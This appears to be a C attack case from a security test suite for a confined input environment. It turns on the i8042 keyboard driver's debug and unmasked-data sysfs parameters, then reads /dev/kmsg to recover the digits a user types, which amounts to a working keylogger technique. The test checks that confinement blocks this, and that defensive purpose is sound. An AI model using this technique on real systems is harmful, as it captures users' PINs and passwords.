// SPDX-License-Identifier: Apache-2.0
/*
 * Has the keyboard controller's driver print every byte, unmasked, to the kernel log.
 *
 * attack: i8042_debug
 * class: input
 * when: before
 * judge: keys
 * unprotected: module
 * defence: confinement
 * why: two parameters in sysfs turn the kernel into a key logger; the REE's /sys is
 *	read-only, and the kernel log is not for it
 */
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "digits.h"
#include "file.h"
#include "report.h"

#define PARAMETERS	"/sys/module/i8042/parameters/"

static int set_debug(const char *value)
{
	int ret = file_write(PARAMETERS "debug", value);

	if (ret)
		return ret;
	return file_write(PARAMETERS "unmask_kbd_data", value);
}

/* "...i8042: [4294900000] 06 <- i8042 (interrupt, 0, 1)" */
static void parse(const char *line, struct digits *d)
{
	const char *arrow = strstr(line, " <- i8042 (interrupt, 0");

	if (arrow && arrow - line > 2)
		digits_add(d, digits_of_scancode((uint8_t)strtoul(arrow - 2, NULL, 16)));
}

static void collect(int log, struct digits *d)
{
	char line[1024];
	ssize_t got;

	while ((got = read(log, line, sizeof(line) - 1)) > 0 || errno == EPIPE) {
		line[got > 0 ? got : 0] = '\0';
		parse(line, d);
	}
}

int main(void)
{
	struct digits digits = { 0 };
	int log, ret;

	attack_init();
	ret = set_debug("1");
	log = open("/dev/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	attack_ready();
	if (ret)
		attack_failed("i8042's parameters: %s", strerror(-ret));
	if (log < 0)
		attack_failed("/dev/kmsg: %s", strerror(errno));
	lseek(log, 0, SEEK_END);
	while (!attack_wait(50))
		collect(log, &digits);
	set_debug("0");
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
